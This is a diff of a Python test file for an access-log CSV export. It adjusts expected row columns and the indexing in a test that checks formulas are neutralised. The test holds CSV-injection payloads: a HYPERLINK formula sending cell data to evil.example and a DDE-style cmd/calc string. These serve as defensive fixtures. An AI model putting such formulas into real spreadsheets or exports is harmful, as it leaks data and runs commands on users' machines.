@@ -93,7 +93,9 @@ def test_rows_are_the_records_the_page_filters_to(client, auditor, records):
 
     assert named == [
         ["2025-03-02 09:00:00", "bob", "12", "View", "dashboard-conversations", "/dashboard/conversations/",
-         "?sort=-conversations_7d", "Named", "3", "3", "4 7 9", "Allowed", "200", "", "", ""],
+         "?sort=-conversations_7d", "Named", "3", "3",
+         "(removed member 4) (removed member 7) (removed member 9)",  # no such members in this test
+         "4 7 9", "", "", "Allowed", "200", "", "", "", "", "", ""],
     ]
     assert [row[1] for row in window] == ["carol", "bob"]
 
@@ -120,8 +122,8 @@ def test_a_formula_in_the_log_comes_out_as_text(client, auditor):
 
     (row,) = rows
     assert row[1] == """'=HYPERLINK("https://evil.example/?x="&A1,"Click")"""
-    assert row[14] == "'@SUM(1+1)*cmd|' /C calc'!A0"
-    assert row[15] == "'-2+3"
+    assert row[ACCESS_LOG_HEADER.index("User agent")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row[ACCESS_LOG_HEADER.index("Justification")] == "'-2+3"
 
 
 def test_a_formula_in_the_filters_is_neutralised_in_the_provenance_too(client, auditor):
